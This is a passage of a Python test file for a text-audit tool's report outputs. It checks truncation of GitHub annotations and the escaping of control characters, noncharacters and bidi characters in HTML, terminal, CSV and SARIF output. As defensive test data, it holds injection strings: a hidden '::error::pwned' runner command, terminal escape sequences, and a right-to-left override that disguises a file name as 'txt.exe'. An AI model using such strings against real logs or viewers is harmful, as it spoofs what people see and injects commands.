    ids = [f"\u05e9\u05dc\u05d5\u05dd-{i:05}-" + "\u05d0" * 20 for i in range(20_000)]
    rf = {"message": "20000 articles are near-duplicates", "places": [{"document": i} for i in ids]}
    message = command("warning", _run_message(rf)).partition("::")[2].partition("::")[2]
    assert MAX_MESSAGE_BYTES - 100 <= len(message.encode()) <= MAX_MESSAGE_BYTES
    assert message.endswith("\u2069, …)") and message.count("\u2068") == message.count("\u2069")


def test_github_annotations_cut_the_longest_piece_and_keep_isolates_closed() -> None:
    from audits.reports.github_report import MAX_MESSAGE_BYTES, MAX_TITLE, Isolated, command

    line = command(
        "error",
        ("“", Isolated("\u05d0%" * 40_000), "”: a calque"),
        title=("Machine-translated: ", Isolated("\u05d1" * 400)),
    )
    props, _, message = line[len("::error ") :].partition("::")
    title = _unescape(props.removeprefix("title="))
    assert len(title) == MAX_TITLE and title.endswith("…\u2069")
    assert title.startswith("Machine-translated: \u2068\u05d1")
    assert MAX_MESSAGE_BYTES - 8 <= len(message.encode()) <= MAX_MESSAGE_BYTES
    assert _unescape(message).endswith("…\u2069”: a calque")
    assert message.count("\u2068") == message.count("\u2069") == 1


def test_github_annotations_fit_what_github_takes() -> None:
    from audits.reports.github_report import MAX_MESSAGE_BYTES, MAX_TITLE, command

    line = command("error", "é%" * 50_000, file="a.txt", title="Machine-translated: " + "x" * 400)
    props, _, message = line[len("::error ") :].partition("::")
    title = dict(p.split("=", 1) for p in props.split(","))["title"]
    assert len(_unescape(title)) == MAX_TITLE and _unescape(title).endswith("…")
    assert MAX_MESSAGE_BYTES - 4 <= len(message.encode()) <= MAX_MESSAGE_BYTES
    assert _unescape(message).endswith("…") and "%2" not in message[-4:]
    short = command("notice", "fine", title="t")
    assert short == "::notice title=t::fine"


def test_a_runner_command_behind_spaces_between_colour_codes_is_made_inert() -> None:
    # FORCE_COLOR: a bold cell after plain spaces, "  ESC[1m ESC[0m ESC[1m::error::",
    # is a command once a log viewer drops the codes; spaces then codes was all that
    # was guarded.
    from audits.reports.base import without_runner_commands

    line = " \x1b[1m   \x1b[0m \x1b[1m \x1b[0m\x1b[1m::error::pwned"
    assert without_runner_commands(line).endswith("\u200b::error::pwned")
    assert without_runner_commands("a::error::b") == "a::error::b"  # not a line start


def test_html_shows_control_characters_instead_of_writing_them() -> None:
    # An ESC sequence in an article (a JSONL record or a JSON Feed can hold one) reached
    # the page raw: printed in a CI job (-f html) it coloured or cleared the log, and
    # HTML takes no control character in text but its white space.
    from audits import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents
    from audits.reports.html_report import esc

    assert esc("a\x1b[2Jb\x07c\td\x0ce\x85") == "a\u241b[2Jb\u2407c\td\x0ce\ufffd"
    doc = Document(
        id="rec:1",
        text="Talks \x1b]0;owned\x07 in Geneva\n\nThe diplomatic chief \x1b[31msaid\x1b[0m "
        "that the talks were taken in the frame of the reform.",
        source="rec:1",
        title="Title \x1b[2J here",
        meta={"encoding": "utf-8"},
    )
    page = get_reporter("html").render(audit_documents([doc], AuditConfig(lm=False)))
    assert not re.search("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f]", page)
    root, errors = parse(page)
    assert errors == []
    assert "\u241b[31msaid" in root.by_id("doc-1").text()


def test_html_shows_noncharacters_as_the_replacement_character() -> None:
    # U+FDD0..U+FDEF and U+xFFFE/U+xFFFF are parse errors in HTML as the controls are
    # ("noncharacter-in-input-stream"), and they reached the page as they were.
    from audits import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents
    from audits.reports.html_report import esc

    assert (
        esc("a\ufdd0b\ufdefc\ufffed\U0001ffffe\U0010fffe") == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffd"
    )
    assert esc("\ufdcf\ufdf0\ufffd\U0001fffd") == "\ufdcf\ufdf0\ufffd\U0001fffd"
    doc = Document(
        id="rec:\ufdd0",
        text="The diplomatic chief \uffffsaid that the talks were taken in the frame.",
        source="rec:1",
        title="Title \U0010ffff here",
        meta={"encoding": "utf-8"},
    )
    page = get_reporter("html").render(audit_documents([doc], AuditConfig(lm=False)))
    noncharacter = re.compile("[\ufdd0-\ufdef\ufffe\uffff\U0010fffe\U0010ffff]")
    assert not noncharacter.search(page)
    assert "\ufffdsaid" in page


def test_the_terminal_shows_noncharacters_as_the_html_report_does() -> None:
    # printable() let U+FDD0..U+FDEF and U+xFFFE/U+xFFFF through, which the HTML
    # report shows as U+FFFD: the terminal drew whatever its font had for them.
    from audits import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents
    from audits.reports.html_report import esc
    from audits.reports.labels import printable

    odd = "a\ufdd0b\ufdefc\ufffed\uffffe\U0001fffef\U0010ffff"
    assert printable(odd) == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffd"
    assert printable(odd) == esc(odd)
    assert printable("\ufdcf\ufdf0\ufffd\U0001fffd") == "\ufdcf\ufdf0\ufffd\U0001fffd"
    doc = Document(
        id="rec:\ufdd0",
        text="The diplomatic chief \uffffsaid that the talks were taken in the frame.",
        source="rec:1",
        title="Title \U0010ffff here",
    )
    run = audit_documents([doc], AuditConfig(lm=False))
    noncharacter = re.compile("[\ufdd0-\ufdef\ufffe\uffff\U0010fffe\U0010ffff]")
    for fmt in ("terminal", "github"):
        out = get_reporter(fmt).render(run)
        assert not noncharacter.search(out), fmt
    assert "\ufffdsaid" in get_reporter("terminal", width=200).render(run)


def test_github_run_finding_message_over_64_kb_is_cut_once_at_its_end() -> None:
    # S520's thousands of near-duplicates: clip cut the longest pieces first, so every
    # title became “…” and its id (…), and the ids after the message one more (…).
    from audits.reports.github_report import MAX_MESSAGE_BYTES, _run_message, command

    titles = [
        f"“\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd {i}” (doc-{i})" for i in range(3000)
    ]
    rf = {"message": "near-duplicates: " + ", ".join(titles), "places": [{"document": "a"}]}
    message = _unescape(command("warning", _run_message(rf)).partition("::")[2].partition("::")[2])
    assert MAX_MESSAGE_BYTES - 200 <= len(message.encode()) <= MAX_MESSAGE_BYTES
    assert message.count("…") == 1 and message.endswith("), …")
    assert "(…)" not in message and "“…" not in message
    assert message.count("\u2068") == message.count("\u2069")
    # One title longer than the limit is cut inside, and its quote is closed.
    long = {
        "message": "near-duplicates: “" + "x" * 70_000 + "” (a-0)",
        "places": [{"document": "a"}],
    }
    cut = _unescape(command("warning", _run_message(long)).partition("::")[2].partition("::")[2])
    assert cut.endswith("x…”") and cut.count("…") == 1
    assert len(cut.encode()) <= MAX_MESSAGE_BYTES


@pytest.mark.parametrize("short", [0, 3, 6, 7, 8, 12, 30])
def test_github_run_finding_message_with_no_room_for_an_id_says_the_ids_went(
    short: int,
) -> None:
    # A message under 64 KB by less than its first id went out whole and without a
    # word that documents were left out.
    from audits.reports.github_report import MAX_MESSAGE_BYTES, _run_message, command

    rf = {
        "message": "x" * (MAX_MESSAGE_BYTES - short),
        "places": [{"document": "abcdefghijklmnopqrstuvwxyz"}],
    }
    message = _unescape(command("warning", _run_message(rf)).partition("::")[2].partition("::")[2])
    assert len(message.encode()) <= MAX_MESSAGE_BYTES
    assert message.endswith(("x (…)", "x…")) and "abc" not in message
    # " (…)" is 6 bytes: a message that leaves room for it keeps every "x" and says
    # the ids went; it lost its last "x" to a "…" up to 8 bytes short.
    if short >= 6:
        assert message == "x" * (MAX_MESSAGE_BYTES - short) + " (…)"


def test_html_shows_no_empty_quotes_for_a_white_space_suggestion() -> None:
    # The speech dash's suggestion is " " (the dash goes, a space stays): the page said
    # "natural English: “ ”", quotes round nothing, where the message says it all.
    run = sample_run()
    audit = run.documents[0]
    findings = [dataclasses.replace(f, suggestion=" ") for f in audit.findings]
    run = dataclasses.replace(run, documents=[dataclasses.replace(audit, findings=findings)])
    page = get_reporter("html").render(run)
    assert findings and 'class="sugg"' not in page
    assert "natural English: <q>" in get_reporter("html").render(sample_run())


def test_csv_keeps_a_ratio_or_a_boolean_title_text_and_the_numbers_numbers() -> None:
    """A title "3:1" opened in Excel as the time 03:01, and "TRUE" as a boolean; the
    guard marks them as text, while P, the line and the column stay numbers a sheet
    can sort and sum."""
    for title in ("3:1", "TRUE"):
        text = get_reporter("csv").render(_titled(title)).removeprefix("\ufeff")
        rows = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["title"]]
        ours = [r for r in rows if r["title"].lstrip("'") == title]
        assert ours and all(r["title"] == "'" + title for r in ours), title
        for row in ours:
            float(row["probability"])
            assert not row["line"] or row["line"].isdigit(), row["line"]


def test_sarif_shows_no_bidi_control_of_a_hostile_title_or_id() -> None:
    """Messages had their bidi controls shown as U+FFFD, but a document's id stayed as
    it was in ``logicalLocations[].fullyQualifiedName`` and, with its title, in the
    results' properties, where a viewer shows them: a U+202E reversed what followed."""
    from audits.config import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents

    name = "geneva \u202etxt.exe\u202c \u2067feed\u2069"
    doc = Document(
        id=name,
        text="The minister said \u202dthat 21.000 people\u202c came to the rally.\n",
        source=name,
        title="Breaking \u202agnissim\u202b news \u2066now\u2068",
    )
    run = audit_documents([doc], AuditConfig(lm=False))
    log = json.loads(get_reporter("sarif").render(run))
    validate_sarif(log)
    sarif_run = log["runs"][0]
    assert sarif_run["results"]
    for result in sarif_run["results"]:
        (location,) = result["locations"]
        assert location["logicalLocations"] == [
            {"fullyQualifiedName": "geneva \ufffdtxt.exe\ufffd \ufffdfeed\ufffd"}
        ]
        assert result["properties"]["title"] == "Breaking \ufffdgnissim\ufffd news \ufffdnow\ufffd"
        assert result["properties"]["document"] == "geneva \ufffdtxt.exe\ufffd \ufffdfeed\ufffd"
    assert sarif_run["properties"]["documents"][0]["id"].startswith("geneva \ufffdtxt")
    # The file's own text stays as it is where it is quoted as such: the region's
    # snippet and the finding's text (what a baseline and a fingerprint match).
    for result in sarif_run["results"]:
        region = result["locations"][0]["physicalLocation"].get("region", {})
        region.pop("snippet", None)
        result["locations"][0]["physicalLocation"].pop("contextRegion", None)
        result["properties"].pop("text", None)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", json.dumps(log, ensure_ascii=False))
